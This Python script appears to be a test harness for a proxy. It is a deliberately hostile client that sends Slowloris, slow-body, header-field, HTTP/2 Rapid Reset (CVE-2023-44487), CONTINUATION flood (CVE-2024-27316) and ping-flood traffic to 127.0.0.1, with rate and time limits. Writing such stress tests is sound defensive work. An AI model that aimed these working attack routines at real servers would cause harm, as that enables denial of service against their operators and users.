#!/usr/bin/python3
"""A client that means no good, as a process of its own: attacker.py KIND PORT CONNECTIONS RATE.

RATE bounds what it does a second (bytes, heads or frames, as the kind has it), so that on a machine
with few processors it is the proxy that is tried, and not the scheduler. It says `ready` once it has
all its connections and its attack goes on, ends when its standard input does (after a minute at the
latest), and says what it did as one line of JSON. Only to 127.0.0.1.
"""

import json
import resource
import select
import socket
import struct
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: a\r\nX: "
BODY = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
LONGEST = 60  # seconds


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def block(path=b"/"):
    """A request's fields without compression."""
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path)]
    return b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in fields)


class Attacker:
    """CONNECTIONS sockets, and a turn of one of them RATE times a second."""

    def __init__(self, port, connections, rate):
        self.port, self.number, self.rate = port, connections, rate
        self.counts = {"turns": 0, "opened": 0, "closed": 0, "refused": 0}
        self.sockets = [None] * connections

    # --- what a kind does ---

    def begin(self, index):
        """What a new connection says first."""
        return b""

    def turn(self, index):
        """What it says in its turn."""
        return b"a"

    # --- how ---

    def open(self, index):
        one = socket.socket()
        try:
            one.settimeout(5)
            one.connect(("127.0.0.1", self.port))
            one.sendall(self.begin(index))
            one.setblocking(False)
        except OSError:
            one.close()
            self.counts["refused"] += 1
            return
        self.counts["opened"] += 1
        self.sockets[index] = one

    def act(self, index):
        if self.sockets[index] is None:
            self.open(index)
            return
        self.counts["turns"] += 1
        try:
            while self.sockets[index].recv(65_536, socket.MSG_DONTWAIT):
                pass
            self.drop(index)  # the proxy has ended it
        except BlockingIOError:
            self.say(index)
        except OSError:
            self.drop(index)

    def say(self, index):
        try:
            self.sockets[index].send(self.turn(index))
        except BlockingIOError:
            pass
        except OSError:
            self.drop(index)

    def drop(self, index):
        self.sockets[index].close()
        self.sockets[index] = None
        self.counts["closed"] += 1

    def run(self):
        for index in range(self.number):
            self.open(index)
        end, tick, at = time.monotonic() + LONGEST, 0.01, 0
        due, told = 0.0, False
        last = time.monotonic()
        while (now := time.monotonic()) < end:
            # What was missed is not made up for: a burst would be another attack.
            due += min(now - last, 5 * tick) * self.rate
            last = now
            while due >= 1:
                due -= 1
                self.act(at)
                at = (at + 1) % self.number
            if not told:
                told = True
                print("ready", flush=True)
            if select.select([sys.stdin], [], [], tick)[0]:
                break
        print(json.dumps(self.counts), flush=True)


class Heads(Attacker):
    """Slowloris: heads that never end, a byte at a time."""

    def begin(self, index):
        return HEAD


class Bodies(Attacker):
    """The same behind the head, to a program that waits for the whole."""

    def begin(self, index):
        return BODY


class Http2Heads(Attacker):
    """The same in HTTP/2: a head of which no CONTINUATION ends, a field at a time."""

    def begin(self, index):
        return PREFACE + frame(1, 1, 1, block())

    def turn(self, index):
        return frame(9, 0, 1, b"\0\1a\1b")


class Idle(Attacker):
    """Connections that do nothing; every second one has made a request."""

    def begin(self, index):
        return b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" if index % 2 else b""

    def turn(self, index):
        return b""


class Fields(Attacker):
    """Heads with thousands of fields, one after the other."""

    def begin(self, index):
        return b"GET / HTTP/1.1\r\nHost: a\r\n"

    def turn(self, index):
        return b"X-Field: value\r\n" * 200


class LongFields(Fields):
    """Heads with one field that does not end."""

    def turn(self, index):
        return b"X: " + b"y" * 16_384


class RapidReset(Attacker):
    """Requests that are reset at once (CVE-2023-44487), 20 in a turn."""

    def __init__(self, *more):
        super().__init__(*more)
        self.stream = [1] * self.number

    def begin(self, index):
        self.stream[index] = 1
        return PREFACE

    def turn(self, index):
        said = []
        for _ in range(20):
            stream, self.stream[index] = self.stream[index], self.stream[index] + 2
            said.append(frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\10"))
        return b"".join(said)


class Continuation(Http2Heads):
    """CONTINUATION frames without end (CVE-2024-27316), 16 KiB in a turn."""

    def turn(self, index):
        return frame(9, 0, 1, b"\0\1a\1b" * 3200)


class Pings(Attacker):
    """Pings that want to be answered, 500 in a turn."""

    def begin(self, index):
        return PREFACE

    def turn(self, index):
        return frame(6, 0, 0, b"12345678") * 500


KINDS = {kind.__name__: kind for kind in (Heads, Bodies, Http2Heads, Idle, Fields, LongFields, RapidReset,
                                          Continuation, Pings)}


def main():
    kind, port, connections, rate = sys.argv[1], *map(int, sys.argv[2:])
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    KINDS[kind](port, connections, rate).run()


if __name__ == "__main__":
    main()
